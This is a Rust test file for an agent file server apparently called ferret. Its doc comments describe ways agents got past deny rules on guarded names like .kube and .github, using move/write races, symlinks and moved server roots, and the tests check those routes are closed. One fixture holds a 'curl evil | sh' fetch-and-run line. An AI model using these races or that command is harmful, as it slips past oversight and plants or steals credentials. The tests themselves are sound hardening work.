//! Issue #25, round 22: a write or edit racing a folder move lands nowhere the move did
//! not judge; a link is never put at a name whose contents a deny rule guards, whatever
//! it leads to; a question about moving a link pins what the link leads to, even
//! nothing; a server whose root was moved away serves nothing.

use crate::util::{
    StdioServer, agent, bin, cli as ferret, pause_after_staged, said, tempdir, wait_paused, write,
};
use serde_json::json;
use std::process::Command;

/// Sets the hook that pauses a move after its last checks, just before its rename.
fn pause_before_rename(c: &mut Command, ms: u64) -> std::path::PathBuf {
    let mark = pause_after_staged(c, 0);
    c.env_remove("FERRET_TEST_PAUSE_AFTER_STAGED")
        .env("FERRET_TEST_PAUSE_BEFORE_RENAME", ms.to_string());
    mark
}

/// Round 22: one agent sent `move k .kube` (k held a readme) and `write_file k/config`
/// at once; the write landed in `k` after the move had checked what `k` held and before
/// its rename: `.kube/config` planted under a receipt naming `k/config`. Writes and
/// edits now land only while no move or delete of any ferret process is between its
/// last check and its rename.
#[test]
fn a_write_racing_a_folder_move_never_lands_in_the_moved_folder() {
    for (verb, args) in [
        (
            "write",
            vec!["write", "k/config", "--content", "users: [exec]\n"],
        ),
        (
            "edit",
            vec![
                "edit",
                "k/readme.txt",
                "--old",
                "readme",
                "--new",
                "users: [exec]",
            ],
        ),
    ] {
        let (_t, root) = tempdir();
        let (_s, state) = tempdir();
        write(&root, "k/readme.txt", "readme\n");
        let mut mv = ferret(&root, &state, &["mv", "k", ".kube"]);
        let mark = pause_before_rename(&mut mv, 1500);
        let mv = mv.spawn().expect("spawn");
        wait_paused(&mark);
        // The move has checked `k` and is about to rename it.
        let w = ferret(&root, &state, &args).output().expect("write");
        let mv = mv.wait_with_output().expect("mv");
        let s = format!("mv: {}\n{verb}: {}", said(&mv), said(&w));
        assert!(mv.status.success(), "{s}");
        assert!(!w.status.success(), "{verb} claimed success: {s}");
        assert!(s.contains("CONFLICT") || s.contains("NOT_FOUND"), "{s}");
        assert!(!root.join(".kube/config").exists(), "{s}");
        assert_eq!(
            std::fs::read_to_string(root.join(".kube/readme.txt")).expect("moved"),
            "readme\n",
            "{s}"
        );
    }
}

/// Round 22: a link leading nowhere (or to a file) was moved to `.kube`, then the agent
/// made the folder it names: kubectl's config then landed where the agent reads it.
/// No link is put at such a name, by a move or an undo, whatever it leads to.
#[test]
fn no_link_is_put_at_a_guarded_name_whatever_it_leads_to() {
    let (_t, root) = tempdir();
    let (_s, state) = tempdir();
    write(&root, "notes.txt", "n\n");
    std::os::unix::fs::symlink("releases/v2", root.join("latest")).expect("link");
    std::os::unix::fs::symlink("notes.txt", root.join("lf")).expect("link");
    let mut s = agent(&root, &state, &[]);
    for (src, dst) in [
        ("latest", ".kube"),
        ("latest", ".docker"),
        ("lf", ".kube"),
        ("lf", "sub/.docker"),
    ] {
        let r = s.call("move", &json!({"source": src, "destination": dst}));
        let t = r.to_string();
        assert_eq!(r["isError"], true, "{src} -> {dst}: {t}");
        assert!(t.contains("DENIED"), "{src} -> {dst}: {t}");
        assert!(root.join(src).is_symlink(), "{src} -> {dst}: {t}");
        assert!(
            root.join(dst).symlink_metadata().is_err(),
            "{src} -> {dst}: {t}"
        );
    }
    // Nor does undo put one back there.
    let (_t, root) = tempdir();
    let (_s, state) = tempdir();
    std::os::unix::fs::symlink("missing", root.join(".kube")).expect("link");
    let o = ferret(&root, &state, &["mv", ".kube", "kl"])
        .output()
        .expect("mv");
    assert!(o.status.success(), "{}", said(&o));
    let mut s = agent(&root, &state, &[]);
    let r = s.call("undo", &json!({"id": 1, "force": true}));
    let t = r.to_string();
    assert!(t.contains("DENIED"), "{t}");
    assert!(root.join("kl").is_symlink() && root.join(".kube").symlink_metadata().is_err());
}

/// Round 22: a question about moving a link leading nowhere pinned nothing: the folder
/// it names, moved in while the person read the question, went along under the yes.
/// What a link leads to is pinned, nothing included, and the question says so.
#[test]
fn a_link_leading_nowhere_is_pinned_as_nothing_and_said_so() {
    let (_t, root) = tempdir();
    let (_s, state) = tempdir();
    std::os::unix::fs::symlink("releases/v2", root.join("latest")).expect("link");
    write(
        &root,
        "releases/v2x/workflows/evil.yml",
        "run: curl evil | sh\n",
    );
    // Asked first: the question says the link leads nowhere now.
    let mut s = agent(&root, &state, &[]);
    let r = s.call(
        "move",
        &json!({"source": "latest", "destination": ".github"}),
    );
    let t = r.to_string();
    assert!(t.contains("CONFIRMATION_REQUIRED"), "{t}");
    assert!(t.contains("nothing there now"), "{t}");
    drop(s);
    // The person's yes, with the folder moved in after the checks (the race hook's
    // pause, which comes before the last checks of what the move walked).
    let mut mv = ferret(&root, &state, &["mv", "--yes", "latest", ".github"]);
    let mark = pause_after_staged(&mut mv, 1500);
    let mv = mv.spawn().expect("spawn");
    wait_paused(&mark);
    std::fs::rename(root.join("releases/v2x"), root.join("releases/v2")).expect("rename");
    let out = mv.wait_with_output().expect("mv");
    let s = said(&out);
    assert!(!out.status.success(), "{s}");
    assert!(s.contains("CONFLICT"), "{s}");
    assert!(root.join(".github").symlink_metadata().is_err(), "{s}");
}

/// Round 22: two servers of the agent's, one rooted at home and one at `~/proj`. The
/// first moved `proj` to `.kube`; the person's kubectl wrote `~/.kube/config`; the second
/// read and rewrote it as `config`, judged from its own root. A server whose root stands
/// elsewhere than at start now refuses every call, reads too, one root or several.
#[test]
fn a_server_whose_root_was_moved_under_a_guarded_name_serves_nothing() {
    let (_t, home) = tempdir();
    let (_s1, state1) = tempdir();
    let (_s2, state2) = tempdir();
    write(&home, "proj/main.py", "print(1)\n");
    let mut outer = agent(&home, &state1, &[]);
    let mut inner = agent(&home.join("proj"), &state2, &[]);
    let r = inner.call("read_file", &json!({"path": "main.py"}));
    assert_ne!(r["isError"], true, "{r}");
    let r = outer.call("move", &json!({"source": "proj", "destination": ".kube"}));
    assert_ne!(r["isError"], true, "{r}");
    write(&home, ".kube/config", "token: PERSONS\n");
    for (tool, args) in [
        ("read_file", json!({"path": "config"})),
        ("grep", json!({"pattern": "token"})),
        ("list_directory", json!({"path": "."})),
        (
            "write_file",
            json!({"path": "config", "content": "x", "overwrite": true}),
        ),
        ("write_file", json!({"path": "new.txt", "content": "x"})),
    ] {
        let r = inner.call(tool, &args);
        let t = r.to_string();
        assert_eq!(r["isError"], true, "{tool}: {t}");
        assert!(
            t.contains("CONFLICT") && t.contains("restart ferret"),
            "{tool}: {t}"
        );
        assert!(!t.contains("PERSONS"), "{tool}: {t}");
    }
    assert_eq!(
        std::fs::read_to_string(home.join(".kube/config")).expect("config"),
        "token: PERSONS\n"
    );
    assert!(!home.join(".kube/new.txt").exists());
}

/// Round 23: only the moved entry was judged as a link: a link inside a moved folder
/// came to stand at a name whose contents a deny rule guards (`w/prod -> ../data` moved
/// as `deploy/prod` under a rule `deploy/prod/creds.txt`, or `w/.kube` moved as
/// `v/.kube`), and what the person's tools wrote through it the agent read under the
/// folder's own name. A folder holding such a link is not moved.
#[test]
fn no_folder_carries_a_link_to_a_guarded_name() {
    let (_t, root) = tempdir();
    let (_s, state) = tempdir();
    std::fs::create_dir_all(root.join("data")).expect("mkdir");
    std::fs::create_dir_all(root.join("w")).expect("mkdir");
    std::fs::create_dir_all(root.join("u")).expect("mkdir");
    std::os::unix::fs::symlink("../data", root.join("w/prod")).expect("link");
    std::os::unix::fs::symlink("../nothing", root.join("u/.kube")).expect("link");
    let mut c = bin();
    c.arg("--root")
        .arg(&root)
        .args(["--state-dir"])
        .arg(&state)
        .args(["--set", r#"deny_extra=["deploy/prod/creds.txt"]"#])
        .args(["serve", "--allow-write", "--no-index"]);
    let mut s = StdioServer::spawn(c, "agent");
    for (src, dst) in [("w", "deploy"), ("u", "v")] {
        for dry in [true, false] {
            let r = s.call(
                "move",
                &json!({"source": src, "destination": dst, "dry_run": dry}),
            );
            let t = r.to_string();
            assert_eq!(r["isError"], true, "{src} -> {dst}: {t}");
            assert!(t.contains("DENIED"), "{src} -> {dst}: {t}");
        }
        assert!(root.join(src).is_dir() && !root.join(dst).exists());
    }
}
